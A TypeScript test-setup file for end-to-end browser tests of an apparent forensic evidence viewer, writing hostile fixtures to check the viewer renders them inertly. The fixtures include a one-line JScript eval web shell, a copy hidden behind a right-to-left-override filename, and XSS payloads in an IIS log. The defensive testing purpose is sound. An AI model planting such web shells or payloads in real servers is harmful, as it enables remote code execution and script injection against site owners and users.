// Shared setup for the end-to-end tests: a fresh renderer build (once per run), Chromium via playwright-core,
// the browser-mode server over a real CaseService, and small hostile evidence folders.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { chromium } from 'playwright-core';
import type { Browser, Page } from 'playwright-core';
import { CaseService } from '../../electron/service.ts';
import { DEFAULT_STATIC_DIR, REPO_ROOT, startWebServer } from '../../electron/web.ts';
import type { WebServer } from '../../electron/web.ts';

export const CHROMIUM = process.env.LOUPE_CHROMIUM || '/usr/bin/chromium';
export const SCREENSHOTS = path.join(REPO_ROOT, 'test-output', 'screenshots');

function newestMtime(dir: string): number {
  let newest = 0;
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    newest = Math.max(newest, e.isDirectory() ? newestMtime(p) : fs.statSync(p).mtimeMs);
  }
  return newest;
}

/** Rebuilds dist/renderer when any renderer source (or the Vite config) is newer than the last build. */
export function ensureFreshRenderer(): void {
  const index = path.join(DEFAULT_STATIC_DIR, 'index.html');
  const built = fs.existsSync(index) ? fs.statSync(index).mtimeMs : 0;
  const sources = Math.max(newestMtime(path.join(REPO_ROOT, 'renderer')), newestMtime(path.join(REPO_ROOT, 'shared')), fs.statSync(path.join(REPO_ROOT, 'vite.config.ts')).mtimeMs);
  if (built > sources) return;
  const vite = path.join(REPO_ROOT, 'node_modules', 'vite', 'bin', 'vite.js');
  const r = spawnSync(process.execPath, [vite, 'build', '--logLevel', 'warn'], { cwd: REPO_ROOT, stdio: 'inherit' });
  if (r.status !== 0) throw new Error(`vite build failed (${r.status})`);
}

/** Why the e2e tests cannot run here, or null when they can. */
export function e2eUnavailable(): string | null {
  return fs.existsSync(CHROMIUM) ? null : `Chromium not found at ${CHROMIUM} (set LOUPE_CHROMIUM)`;
}

export async function launchBrowser(): Promise<Browser> {
  return chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'],
  });
}

export interface Session { tmp: string; service: CaseService; server: WebServer; browser: Browser; page: Page; sideEffects: string[] }

/** A temp folder, a service with no case open, the server, and a page that records dialogs and page errors. */
export async function openSession(prefix: string): Promise<Session> {
  ensureFreshRenderer();
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), prefix));
  const service = new CaseService();
  const server = await startWebServer({ service });
  const browser = await launchBrowser();
  const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  const sideEffects: string[] = [];
  page.on('dialog', (d) => { sideEffects.push(`dialog: ${d.type()} ${d.message()}`); void d.dismiss(); });
  page.on('pageerror', (e) => sideEffects.push(`pageerror: ${e.message}`));
  page.on('console', (m) => { if (m.type() === 'error' || /xss|alert/i.test(m.text())) sideEffects.push(`console.${m.type()}: ${m.text()}`); });
  await page.goto(server.url);
  return { tmp, service, server, browser, page, sideEffects };
}

export async function closeSession(s: Session | undefined): Promise<void> {
  if (!s) return;
  await s.browser.close();
  await s.server.close();
  s.service.close();
  fs.rmSync(s.tmp, { recursive: true, force: true });
}

export async function screenshot(page: Page, name: string): Promise<void> {
  fs.mkdirSync(SCREENSHOTS, { recursive: true });
  await page.screenshot({ path: path.join(SCREENSHOTS, `${name}.png`), fullPage: false });
}

/** Creates a case and indexes `evidence` through the UI, like an analyst; returns once the phase reads "done". */
export async function createAndIndex(page: Page, casePath: string, evidence: string, shotPrefix?: string): Promise<void> {
  await page.goto(page.url().replace(/#.*$/, '') + '#/case');
  await page.fill('input[name=casePath]', casePath);
  await page.fill('input[name=client]', 'Contoso Ltd');
  await page.fill('input[name=caseNumber]', 'IR-2021-031');
  await page.fill('input[name=examiner]', 'J. Doe');
  await page.click('button:has-text("Create case")');
  await page.waitForSelector('input[name=evidenceRoot]');
  await page.fill('input[name=evidenceRoot]', evidence);
  await page.click('button:has-text("Add evidence folder")');
  await page.waitForSelector(`code:has-text("${evidence}")`);
  await page.click('[data-testid=indexing] button:has-text("Index")');
  if (shotPrefix) {
    await page.waitForSelector('[data-testid=index-phase]:not(:has-text("idle"))');
    await screenshot(page, `${shotPrefix}-indexing`);
  }
  // Polled from Node: the page's CSP (rightly) refuses string evaluation.
  let phase: string | null = null;
  for (const deadline = Date.now() + 300_000; Date.now() < deadline; await page.waitForTimeout(250)) {
    phase = await page.textContent('[data-testid=index-phase]');
    if (phase === 'done' || phase === 'failed' || phase === 'cancelled') break;
  }
  if (phase !== 'done') {
    const error = await page.locator('[data-testid=indexing] .error').textContent().catch(() => null);
    throw new Error(`indexing ended "${phase}": ${error ?? 'no error shown'}`);
  }
}

/** IIS log lines and a web shell whose text is hostile HTML: it must show as text and run nothing. */
export function writeHostileEvidence(root: string): { shellPath: string; logPath: string; ip: string } {
  const ip = '203.0.113.66';
  const logDir = path.join(root, 'C', 'inetpub', 'logs', 'LogFiles', 'W3SVC1');
  const shellDir = path.join(root, 'C', 'inetpub', 'wwwroot', 'aspnet_client', 'system_web');
  fs.mkdirSync(logDir, { recursive: true });
  fs.mkdirSync(shellDir, { recursive: true });
  const shellPath = path.join(shellDir, 'xss.aspx');
  fs.writeFileSync(shellPath, [
    '<%@ Page Language="Jscript"%><%eval(Request.Item["exec_code"],"unsafe");%>',
    '<script>window.__loupe_xss = 1; alert("xss-script")</script>',
    '<img src=x onerror=alert("xss-img")>',
    '',
  ].join('\r\n'));
  // A right-to-left override makes this name read as "xpsa.docx" (issue 11, item 16).
  fs.writeFileSync(path.join(shellDir, '\u202excod.aspx'), '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>');
  const logPath = path.join(logDir, 'u_ex210303.log');
  fs.writeFileSync(logPath, [
    '#Software: Microsoft Internet Information Services 10.0',
    '#Version: 1.0',
    '#Date: 2021-03-03 02:14:05',
    '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
    `2021-03-03 02:14:05 10.0.0.5 POST /aspnet_client/system_web/xss.aspx q=<img+src=x+onerror=alert("xss-log")> 443 - ${ip} <script>alert("xss-ua")</script> - 200 0 0 31`,
    `2021-03-03 02:14:09 10.0.0.5 GET /owa/auth/x.js - 443 - ${ip} ExchangeServicesClient/0.0.0.0 - 200 0 0 12`,
    '',
  ].join('\r\n'));
  return { shellPath, logPath, ip };
}
